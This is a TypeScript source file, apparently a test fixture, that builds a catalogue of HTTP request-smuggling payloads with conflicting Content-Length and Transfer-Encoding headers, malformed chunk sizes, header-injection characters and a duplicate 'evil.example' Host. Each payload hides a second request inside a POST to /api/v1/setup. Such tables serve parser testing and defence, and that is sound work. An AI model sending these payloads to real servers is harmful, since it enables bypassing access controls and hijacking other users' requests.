// Requests that two readers may end at different places, each with a whole second request hidden in it: whoever takes the hidden one for
// a request of its own has been smuggled into (RFC 9112, sections 6 and 11.2).

/** Name → the bytes to send, around the hidden request. `host`: what is asked. */
export const ambiguous: Record<string, (host: string, hidden: string) => string> = {
  'a length, and chunks that end before it': (host, hidden) =>
    post(
      host,
      [`Content-Length: ${String(5 + hidden.length)}`, 'Transfer-Encoding: chunked'],
      `0\r\n\r\n${hidden}`,
    ),
  'chunks, and a length that ends before them': (host, hidden) =>
    post(host, ['Transfer-Encoding: chunked', 'Content-Length: 4'], chunk(hidden)),
  'two lengths': (host, hidden) =>
    post(host, ['Content-Length: 0', `Content-Length: ${String(hidden.length)}`], hidden),
  'a list of lengths': (host, hidden) => post(host, [`Content-Length: ${String(hidden.length)}, 0`], hidden),
  'a length with a sign': (host, hidden) => post(host, [`Content-Length: +${String(hidden.length)}`], hidden),
  'a length below nothing': (host, hidden) => post(host, ['Content-Length: -1'], hidden),
  'a length in another base': (host, hidden) =>
    post(host, [`Content-Length: 0x${hidden.length.toString(16)}`], hidden),
  'a length too long for any number': (host, hidden) =>
    post(host, [`Content-Length: ${'9'.repeat(40)}`], hidden),
  'a blank before the colon': (host, hidden) =>
    post(host, [`Content-Length : ${String(hidden.length)}`], hidden),
  'a header that goes on in the next line': (host, hidden) =>
    post(host, ['Transfer-Encoding:', ' chunked', 'Content-Length: 0'], chunk(hidden)),
  'another coding': (host, hidden) => post(host, ['Transfer-Encoding: xchunked'], chunk(hidden)),
  'a coding after the chunks': (host, hidden) =>
    post(host, ['Transfer-Encoding: chunked, identity'], chunk(hidden)),
  'a coding with a control character': (host, hidden) =>
    post(host, ['Transfer-Encoding: \u000bchunked', 'Content-Length: 0'], chunk(hidden)),
  'a coding in a header that only looks alike': (host, hidden) =>
    post(
      host,
      ['Transfer_Encoding: chunked', `Content-Length: ${String(chunk(hidden).length)}`],
      chunk(hidden),
    ),
  'chunks in a version without them': (host, hidden) =>
    post(host, ['Transfer-Encoding: chunked', 'Content-Length: 0'], chunk(hidden)).replace(
      'HTTP/1.1',
      'HTTP/1.0',
    ),
  'a size of a chunk with more behind it': (host, hidden) =>
    post(host, ['Transfer-Encoding: chunked'], chunk(hidden).replace('\r\n', ' x\r\n')),
  'a size of a chunk that overflows': (host, hidden) =>
    post(host, ['Transfer-Encoding: chunked'], `${'f'.repeat(17)}0\r\n\r\n${hidden}`),
  'chunks cut by line feeds alone': (host, hidden) =>
    post(host, ['Transfer-Encoding: chunked'], `0\n\n${hidden}`),
  'a NUL in a header': (host, hidden) =>
    post(host, ['X: a\u0000b', `Content-Length: ${String(hidden.length)}`], hidden),
  'a carriage return in a header': (host, hidden) =>
    post(host, ['X: a\rContent-Length: 0', `Content-Length: ${String(hidden.length)}`], hidden),
  'two hosts': (host, hidden) =>
    post(host, ['Host: evil.example', `Content-Length: ${String(hidden.length)}`], hidden),
  'a body where none is looked for': (host, hidden) =>
    post(host, [`Content-Length: ${String(hidden.length)}`], hidden).replace(
      'POST /api/v1/setup',
      'GET /api/v1/setup',
    ),
  'a body that waits to be asked for': (host, hidden) =>
    post(host, ['Expect: 100-continue', `Content-Length: ${String(hidden.length)}`], hidden),
}

const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`

function post(host: string, headers: string[], body: string): string {
  return [
    `POST /api/v1/setup HTTP/1.1`,
    `Host: ${host}`,
    'Content-Type: application/json',
    ...headers,
    '',
    body,
  ].join('\r\n')
}
